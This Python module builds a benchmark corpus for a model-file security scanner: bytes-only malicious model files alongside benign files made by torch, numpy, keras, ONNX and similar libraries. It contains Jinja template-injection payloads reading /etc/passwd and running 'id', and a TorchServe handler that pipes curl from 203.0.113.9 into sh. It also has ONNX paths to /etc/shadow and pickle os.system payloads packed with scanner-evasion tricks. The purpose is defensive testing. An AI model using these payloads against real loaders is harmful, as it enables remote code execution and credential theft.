"""The model-file benchmark corpus: malicious files built here (bytes only, never loaded)
and benign files made by the real libraries (torch, numpy, joblib, scikit-learn,
safetensors, keras, onnx, gguf, dill) when they are installed.

    from benchmarks.model_corpus import build_corpus
    malicious, benign = build_corpus(Path("/tmp/corpus"))

Every malicious file is one family of attack a loader really runs: the pickle bypasses of
THREATS.md §6 and of picklescan / modelscan / fickling advisories, the loader-view tricks
of issue 16 (legacy torch pickles, numpy object dtypes, lz4 joblib, headerless pickles,
flagged zip members, torch.package names, re-exported classes, container tricks, the
nullifAI "broken pickle" and 7z packing), and the non-pickle formats (GGUF chat-template
injection, ONNX external data outside the model directory, Keras Lambda / TFSMLayer in
.h5, dill code, .pt2 constants, a TorchServe handler). Benign ones never include a file
built by hand: a false positive counted here is one a user would meet.
"""

from __future__ import annotations

import collections
import io
import json
import os
import pickle
import subprocess
import sys
import tarfile
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from tests.models import picklekit as kit

LLAMA3_TEMPLATE = (
    "{% for message in messages %}{{ '<|start_header_id|>' + message['role'] + "
    "'<|end_header_id|>\n\n' + message['content'] | trim + '<|eot_id|>' }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>' }}"
    "{% endif %}"
)
SSTI = [
    "{{ ''.__class__.__mro__[1].__subclasses__()[40]('/etc/passwd').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'Popen' %}"
    "{{ c('id', shell=True) }}{% endif %}{% endfor %}",
    "{{ lipsum['_' ~ '_globals_' ~ '_']['os'].system('id') }}",
]
HANDLER_EVIL = b"""import os
os.system("curl -s http://203.0.113.9/x.sh | sh")
from ts.torch_handler.base_handler import BaseHandler


class Handler(BaseHandler):
    pass
"""


def _benign_pickle(protocol: int) -> bytes:
    return pickle.dumps(collections.OrderedDict(w=[1.0, 2.0], step=3), protocol=protocol)


def _gguf(template: str) -> bytes:
    import struct

    def string(text: str) -> bytes:
        raw = text.encode()
        return struct.pack("<Q", len(raw)) + raw

    kv = string("general.architecture") + struct.pack("<I", 8) + string("llama")
    kv += string("tokenizer.chat_template") + struct.pack("<I", 8) + string(template)
    return b"GGUF" + struct.pack("<IQQ", 3, 0, 2) + kv


def _v7_tar(pickle_member: bytes) -> bytes:
    """torch's legacy tar without the `ustar` magic (tarfile and torch still read it)."""
    members = {
        "sys_info": pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2),
        "pickle": pickle_member,
        "storages": pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2),
        "tensors": pickle.dumps(0, protocol=2),
    }
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    raw = bytearray(buf.getvalue())
    offset = 0
    while offset + 512 <= len(raw) and raw[offset] != 0:
        size = int(raw[offset + 124 : offset + 136].split(b"\x00")[0].strip() or b"0", 8)
        raw[offset + 257 : offset + 265] = b"\x00" * 8
        raw[offset + 148 : offset + 156] = b" " * 8
        raw[offset + 148 : offset + 156] = f"{sum(raw[offset : offset + 512]):06o}\x00 ".encode()
        offset += 512 + (size + 511) // 512 * 512
    return bytes(raw)


def _zip_bytes(members: list[tuple[str, bytes]], mode: int | None = None) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
            for name, data in members:
                info = zipfile.ZipInfo(name)
                if mode is not None:
                    info.external_attr = mode << 16
                zf.writestr(info, data)
    return buf.getvalue()


def _onnx_external(location: str) -> bytes:
    """A ModelProto whose one initializer keeps its data at `location` (protobuf by hand)."""

    def varint(n: int) -> bytes:
        out = b""
        while True:
            b, n = n & 0x7F, n >> 7
            if n:
                out += bytes([b | 0x80])
            else:
                return out + bytes([b])

    def ld(num: int, payload: bytes) -> bytes:
        return varint(num << 3 | 2) + varint(len(payload)) + payload

    def vi(num: int, value: int) -> bytes:
        return varint(num << 3) + varint(value)

    entry = ld(1, b"location") + ld(2, location.encode())
    tensor = vi(1, 4) + vi(2, 1) + ld(8, b"W") + ld(13, entry) + vi(14, 1)
    return vi(1, 8) + ld(7, ld(5, tensor) + ld(2, b"g")) + ld(8, vi(2, 17))


def _h5(layers: list[dict[str, object]]) -> bytes | None:
    try:
        import h5py  # type: ignore[import-untyped]
    except ImportError:
        return None
    config = {"class_name": "Sequential", "config": {"name": "s", "layers": layers}}
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.attrs["keras_version"] = "3.6.0"
        f.attrs["model_config"] = json.dumps(config)
        f.create_group("model_weights").create_dataset("w", data=[1.0, 2.0])
    return buf.getvalue()


def malicious_files(workdir: Path) -> dict[str, Path]:
    """Every malicious family as a file; name -> path."""
    workdir.mkdir(parents=True, exist_ok=True)
    files: dict[str, bytes] = {
        f"{name}.pkl": data for name, data in kit.malicious_samples().items()
    }
    evil = kit.os_system()
    files.update(
        {
            "nullifai_7z_as.bin": bytes.fromhex("377ABCAF271C0004") + b"\x00" * 64,
            "torch_zip_os_system.pt": _zip_bytes(
                [("archive/data.pkl", evil), ("archive/version", b"3\n")]
            ),
            "npy_object_os_system.npy": kit.npy_object(evil),
            "legacy_torch_p0_slot2.pt": kit.torch_legacy(kit.os_system(protocol=0), 0, at=2),
            "legacy_torch_p1_slot4.pt": kit.torch_legacy(kit.os_system(protocol=1), 1, at=4),
            "legacy_torch_p1_slot5.pt": kit.torch_legacy(kit.os_system(protocol=1), 1, at=5),
            "npy_descr_object.npy": kit.npy_with_descr("'object'", kit.os_system(protocol=2)),
            "npy_descr_object_.npy": kit.npy_with_descr("'object_'", kit.os_system(protocol=2)),
            "npy_descr_i4_O.npy": kit.npy_with_descr("'i4,O'", kit.os_system(protocol=2)),
            "npy_python2_long.npy": kit.npy_with_descr(
                "'|O'", kit.os_system(protocol=2), shape="(1L,)"
            ),
            "npz_structured_object.npz": _zip_bytes(
                [
                    (
                        "arr_0.npy",
                        kit.npy_with_descr("[('a', '<i4'), ('b', 'object')]", evil),
                    )
                ]
            ),
            "joblib_lz4_os_system.joblib": kit.lz4_stored_frame(evil),
            "headerless_pickle.bin": kit.headerless(evil),
            "headerless_pickle.pt": kit.headerless(kit.os_system(protocol=5)),
            "zip_member_flagged_symlink.pt": _zip_bytes(
                [("archive/data.pkl", evil), ("archive/version", b"3\n")], mode=0o120777
            ),
            "zip_member_flagged_device.pt": _zip_bytes(
                [("archive/data.pkl", evil), ("archive/version", b"3\n")], mode=0o020644
            ),
            "torch_package_model_pickle.pt": _zip_bytes(
                [(".data/version", b"6\n"), ("pkg/model/model.pickle", evil)]
            ),
            "torch_package_unnamed_pickle.pt": _zip_bytes(
                [(".data/version", b"6\n"), ("pkg/extra/state", evil)]
            ),
            "sklearn_reexported_listener.pkl": kit.program(
                kit.call("sklearn.callback._transport", "Listener", kit.ustr("/tmp/s")), 2
            ),
            "hex_int_before_payload.pkl": b"I0x10\n0" + kit.os_system(protocol=0),
            "legacy_tar_without_ustar.pt": _v7_tar(kit.os_system(protocol=2)),
            "zip_duplicate_data_pkl.pt": _zip_bytes(
                [("archive/data.pkl", kit.torch_like_state_dict()), ("archive/data.pkl", evil)]
            ),
            "keras_traversal_config.keras": _zip_bytes(
                [
                    ("metadata.json", b'{"keras_version": "3.6.0"}'),
                    ("config.json", b'{"module": "keras", "class_name": "Sequential"}'),
                    (
                        "archive/../config.json",
                        b'{"module": "os", "class_name": "system", "config": {}}',
                    ),
                ]
            ),
            "onnx_external_traversal.onnx": _onnx_external("../../../etc/passwd"),
            "onnx_external_absolute.onnx": _onnx_external("/etc/shadow"),
            "mar_evil_model.mar": _zip_bytes(
                [("MAR-INF/MANIFEST.json", b"{}"), ("handler.py", b"x = 1\n"), ("model.pt", evil)]
            ),
            "mar_evil_handler.mar": _zip_bytes(
                [
                    ("MAR-INF/MANIFEST.json", b"{}"),
                    ("handler.py", HANDLER_EVIL),
                    ("model.pt", _zip_bytes([("archive/data.pkl", kit.torch_like_state_dict())])),
                ]
            ),
            "pt2_constant_pickle.pt2": _zip_bytes(
                [
                    ("model/models/model.json", b"{}"),
                    ("model/archive_format", b"pt2"),
                    ("model/data/constants/c0", evil),
                ]
            ),
            "joblib_zlib_nested_loads.joblib": __import__("zlib").compress(
                kit.program(kit.call("pickle", "loads", kit.sbytes(evil)), 2)
            ),
        }
    )
    files.update({f"gguf_ssti_{i}.gguf": _gguf(LLAMA3_TEMPLATE + t) for i, t in enumerate(SSTI)})
    for name, crc_or_name in (("zip_bad_crc.pt", "crc"), ("zip_local_name_differs.pt", "name")):
        raw = bytearray(_zip_bytes([("archive/data.pkl", evil)]))
        if crc_or_name == "crc":
            crc = __import__("zlib").crc32(evil).to_bytes(4, "little")
            for at in (raw.index(crc), raw.rindex(crc)):
                raw[at : at + 4] = b"\x00" * 4
        else:
            at = raw.index(b"archive/data.pkl")
            raw[at : at + 16] = b"archive/data.pkX"
        files[name] = bytes(raw)
    lam = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAA"}}},
    }
    tfsm = {"module": "keras.layers", "class_name": "TFSMLayer", "config": {"filepath": "/x"}}
    for name, layer in (("keras_h5_lambda.h5", lam), ("keras_h5_tfsmlayer.h5", tfsm)):
        data = _h5([layer])
        if data is not None:
            files[name] = data
    try:
        import dill  # type: ignore[import-untyped]

        files["dill_code_object.dill"] = dill.dumps(lambda x: x + 1)
    except ImportError:
        pass
    out: dict[str, Path] = {}
    for name, data in files.items():
        path = workdir / name
        path.write_bytes(data)
        out[name] = path
    return out


# -- benign: made by the real libraries ------------------------------------------------------


def _maybe(build: Callable[[Path], list[Path]], workdir: Path, out: dict[str, Path]) -> None:
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            made = build(workdir)
    except ImportError:
        return
    out.update({p.name: p for p in made})


def _torch(workdir: Path) -> list[Path]:
    import torch

    model = torch.nn.Sequential(torch.nn.Linear(8, 8), torch.nn.LayerNorm(8))
    opt = torch.optim.Adam(model.parameters())
    model(torch.randn(2, 8)).sum().backward()
    opt.step()
    made = []
    for name, obj in {
        "torch_state_dict.pt": model.state_dict(),
        "torch_optimizer.pt": opt.state_dict(),
        "lightning_like.ckpt": {"state_dict": model.state_dict(), "epoch": 1},
    }.items():
        torch.save(obj, workdir / name)
        made.append(workdir / name)
    for protocol in (1, 2):
        path = workdir / f"torch_legacy_p{protocol}.pth"
        torch.save(
            model.state_dict(),
            path,
            _use_new_zipfile_serialization=False,
            pickle_protocol=protocol,
        )
        made.append(path)
    torch.jit.save(torch.jit.script(model), workdir / "torchscript.pt")
    made.append(workdir / "torchscript.pt")
    torch.export.save(torch.export.export(model, (torch.randn(2, 8),)), workdir / "export.pt2")
    made.append(workdir / "export.pt2")
    from torch.package import PackageExporter

    with PackageExporter(workdir / "package.pt") as exporter:
        exporter.save_pickle("model", "model.pickle", {"w": torch.zeros(2)})
    made.append(workdir / "package.pt")
    return made


def _numpy(workdir: Path) -> list[Path]:
    import numpy as np

    np.save(workdir / "plain.npy", np.arange(100.0))
    np.save(workdir / "objects.npy", np.array([{"a": 1}, "x"], dtype=object), allow_pickle=True)
    np.save(workdir / "structured.npy", np.zeros(3, dtype=[("a", "<i4"), ("b", "<f8", (2,))]))
    np.savez_compressed(workdir / "arrays.npz", a=np.arange(10), b=np.array([[1, 2]], dtype=object))
    return [workdir / n for n in ("plain.npy", "objects.npy", "structured.npy", "arrays.npz")]


def _joblib(workdir: Path) -> list[Path]:
    import joblib  # type: ignore[import-untyped]
    import numpy as np

    value = {"w": np.arange(1000.0), "o": np.array([1, "x"], dtype=object)}
    made = []
    for compress in (0, 3, "gzip", "lz4"):
        path = workdir / f"joblib_{compress}.joblib"
        try:
            joblib.dump(value, path, compress=compress)
        except (ValueError, ImportError):
            continue  # lz4 not installed
        made.append(path)
    return made


def _sklearn(workdir: Path) -> list[Path]:
    import joblib
    import numpy as np
    from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    rng = np.random.default_rng(0)
    x, y = rng.random((80, 4)), rng.integers(0, 2, 80)
    made = []
    for name, model in {
        "sklearn_forest.joblib": make_pipeline(StandardScaler(), RandomForestClassifier(5)),
        "sklearn_gbm.pkl": GradientBoostingClassifier(n_estimators=5),
    }.items():
        model.fit(x, y)
        if name.endswith(".pkl"):
            (workdir / name).write_bytes(pickle.dumps(model))
        else:
            joblib.dump(model, workdir / name)
        made.append(workdir / name)
    return made


def _safetensors(workdir: Path) -> list[Path]:
    import numpy as np
    from safetensors.numpy import save_file

    save_file({"w": np.zeros((4, 4), dtype=np.float32)}, str(workdir / "model.safetensors"))
    return [workdir / "model.safetensors"]


def _onnx(workdir: Path) -> list[Path]:
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    x = helper.make_tensor_value_info("X", TensorProto.FLOAT, [4])
    y = helper.make_tensor_value_info("Y", TensorProto.FLOAT, [4])
    w = numpy_helper.from_array(np.ones(4, dtype=np.float32), "W")
    graph = helper.make_graph([helper.make_node("Add", ["X", "W"], ["Y"])], "g", [x], [y], [w])
    model = helper.make_model(graph)
    onnx.save(model, workdir / "inline.onnx")
    onnx.save_model(
        model,
        workdir / "external.onnx",
        save_as_external_data=True,
        location="external.bin",
        size_threshold=0,
    )
    return [workdir / "inline.onnx", workdir / "external.onnx"]


def _gguf_real(workdir: Path) -> list[Path]:
    import gguf  # type: ignore[import-untyped]
    import numpy as np

    path = workdir / "model.gguf"
    writer = gguf.GGUFWriter(str(path), "llama")
    writer.add_chat_template(LLAMA3_TEMPLATE)
    writer.add_token_list(["<s>", "a", "b"])
    writer.add_tensor("w", np.zeros((8, 8), dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    return [path]


def _dill(workdir: Path) -> list[Path]:
    import dill

    (workdir / "state.dill").write_bytes(dill.dumps({"lr": 0.1, "steps": [1, 2]}))
    return [workdir / "state.dill"]


KERAS_SCRIPT = """
import sys, keras
model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(3), keras.layers.Dense(1)])
model.save(sys.argv[1] + "/keras_model.keras")
model.save(sys.argv[1] + "/keras_model.h5")
"""


def _keras(workdir: Path) -> list[Path]:
    """Keras needs a backend: torch's, in a child process (keeps this one's memory clean)."""
    proc = subprocess.run(
        [sys.executable, "-c", KERAS_SCRIPT, str(workdir)],
        env={**os.environ, "KERAS_BACKEND": "torch"},
        capture_output=True,
        check=False,
        timeout=600,
    )
    if proc.returncode != 0:
        return []
    return [workdir / "keras_model.keras", workdir / "keras_model.h5"]


def benign_files(workdir: Path) -> dict[str, Path]:
    """Files the real libraries write; name -> path (libraries not installed are skipped)."""
    workdir.mkdir(parents=True, exist_ok=True)
    out: dict[str, Path] = {}
    for build in (
        _torch,
        _numpy,
        _joblib,
        _sklearn,
        _safetensors,
        _onnx,
        _gguf_real,
        _dill,
        _keras,
    ):
        _maybe(build, workdir, out)
    return out


def build_corpus(workdir: Path) -> tuple[dict[str, Path], dict[str, Path]]:
    return malicious_files(workdir / "malicious"), benign_files(workdir / "benign")
